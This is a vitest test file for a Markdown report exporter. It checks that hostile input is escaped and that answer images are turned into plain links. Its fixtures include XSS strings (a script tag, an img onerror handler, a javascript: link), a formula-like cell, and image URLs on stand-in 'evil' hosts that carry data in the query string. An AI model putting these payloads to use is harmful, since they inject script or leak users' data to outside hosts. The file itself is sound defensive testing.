import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { buildMarkdownReport, exportMarkdown } from './export-markdown';
import { codeBlock, escapeMarkdownText, escapeTableCell } from '@/lib/text/markdown';
import { neutralizeMarkdown } from '@/lib/text/markdown-answer';
import { HOSTILE_QUESTION, SOURCE } from './test-support/export-fixture';

// Parsed with the same Markdown stack the app renders with (remark + GFM), so "escaped" means what a renderer sees.
interface MdNode {
  type: string;
  value?: string;
  url?: string;
  /** linkReference / definition label, lower-cased by the parser. */
  identifier?: string;
  children?: MdNode[];
}

function parse(markdown: string): MdNode {
  return unified().use(remarkParse).use(remarkGfm).parse(markdown) as MdNode;
}

function all(node: MdNode, type: string): MdNode[] {
  return [...(node.type === type ? [node] : []), ...(node.children ?? []).flatMap((child) => all(child, type))];
}

function text(node: MdNode): string {
  if ((node.type === 'html' && node.value === '<br>') || node.type === 'break') return '\n';
  return node.value ?? (node.children ?? []).map(text).join('');
}

describe('Markdown report', () => {
  const report = buildMarkdownReport({ source: SOURCE });
  const tree = parse(report);

  it('renders hostile table cells as exactly their text: pipes, line breaks, backticks, HTML, links', () => {
    const tables = all(tree, 'table');
    expect(tables.length).toBe(3); // data, question 1, question 5
    const hostile = tables[2]!;
    const rows = (hostile.children ?? []).map((row) => (row.children ?? []).map(text));
    expect(rows).toEqual([
      ['name|pipe', 'value'],
      ['a|b', '<script>alert(1)</script>'],
      ['line\nbreak', '`code` ```fence```'],
      ['=1+1', '-3.5'],
      ['[link](javascript:alert(1))', 'None'],
    ]);
    expect(report).toContain('_Showing 4 of 10 rows and 2 of 2 columns._');
  });

  it('lets no HTML, link or image through except its own figure links and <br>', () => {
    expect(all(tree, 'html').map((node) => node.value)).toEqual(all(tree, 'html').map(() => '<br>'));
    expect(all(tree, 'image').map((node) => node.url)).toEqual(['figures/3-1-1.png']);
    // The answer's image became a plain link: it is fetched only if someone clicks it.
    expect(all(tree, 'link').map((node) => node.url)).toEqual([SOURCE.url, 'https://evil.example/p.png?d=secret']);
    expect(report).toContain('\\![track](https://evil.example/p.png?d=secret)');
  });

  it('shows the hostile question as its text and keeps code verbatim in a fence it cannot close', () => {
    const paragraphs = all(tree, 'paragraph').map(text);
    // Markdown drops spaces before a line break; everything else is the question as typed.
    expect(paragraphs).toContain(HOSTILE_QUESTION.replace(/ +\n/g, '\n'));
    const code = all(tree, 'code').map((node) => node.value);
    expect(code).toContain(SOURCE.turns[0]!.final!.code);
    expect(code).toContain("KeyError: 'nope'\n\nTraceback (most recent call last):\n  line 1\nKeyError: 'nope'");
    const fenced = codeBlock({ text: 'a\n````\nb' });
    expect(all(parse(fenced), 'code').map((node) => node.value)).toEqual(['a\n````\nb']);
  });

  it('keeps the answer’s Markdown but neutralises raw HTML and images', () => {
    const answer = neutralizeMarkdown('**Bold** <img src=x onerror=alert(1)> ![t](https://evil/p.png) `<b>` \n```html\n<b>kept</b>\n```');
    const parsed = parse(answer);
    expect(all(parsed, 'strong').map(text)).toEqual(['Bold']);
    expect(all(parsed, 'html')).toEqual([]);
    expect(all(parsed, 'image')).toEqual([]);
    expect(all(parsed, 'inlineCode').map((node) => node.value)).toEqual(['<b>']);
    expect(all(parsed, 'code').map((node) => node.value)).toEqual(['<b>kept</b>']);
  });

  it.each([
    ['inline', '![chart](https://evil/a.png?s=1)', ['https://evil/a.png?s=1']],
    ['with a title', '![chart](https://evil/a.png "t")', ['https://evil/a.png']],
    ['full reference', 'See ![chart][r].\n\n[r]: https://evil/b.png', ['https://evil/b.png']],
    ['collapsed and shortcut references', '![r][] and ![r]\n\n[r]: https://evil/c.png', ['https://evil/c.png', 'https://evil/c.png']],
    ['empty alt', '![](https://evil/d.png)', ['https://evil/d.png']],
    ['after an escaped backslash', 'a \\\\![x](https://evil/e.png)', ['https://evil/e.png']],
    ['already escaped', 'a \\![x](https://evil/f.png)', ['https://evil/f.png']],
  ])('turns an answer image (%s) into a plain link', (_name, markdown, urls) => {
    const parsed = parse(neutralizeMarkdown(markdown));
    expect(all(parsed, 'image')).toEqual([]);
    expect(all(parsed, 'imageReference')).toEqual([]);
    const definitions = new Map(all(parsed, 'definition').map((node) => [node.identifier, node.url]));
    const links = [...all(parsed, 'link').map((node) => node.url), ...all(parsed, 'linkReference').map((node) => definitions.get(node.identifier))];
    expect(links).toEqual(urls);
  });

  it('gives an image with no alt text a clickable name', () => {
    expect(all(parse(neutralizeMarkdown('![](https://evil/d.png)')), 'link').map(text)).toEqual(['image']);
  });

  it('escapes line-start syntax in plain text', () => {
    for (const line of ['# not a heading', '- not a list', '1. not a list', '> not a quote', '---', '| a | b |', '$x$ not math']) {
      const parsed = parse(escapeMarkdownText(line));
      expect(
        parsed.children?.map((node) => node.type),
        line,
      ).toEqual(['paragraph']);
      expect(text(parsed), line).toBe(line);
    }
    expect(escapeTableCell('a|b\nc')).toBe('a\\|b<br>c');
  });

  it('links figures relatively and names the file after the title', () => {
    expect(report).toContain('![Figure 1 of question 3](figures/3-1-1.png)');
    expect(exportMarkdown({ source: SOURCE })).toMatchObject({ fileName: 'regional-sales-review.md', mimeType: 'text/markdown; charset=utf-8' });
  });
});
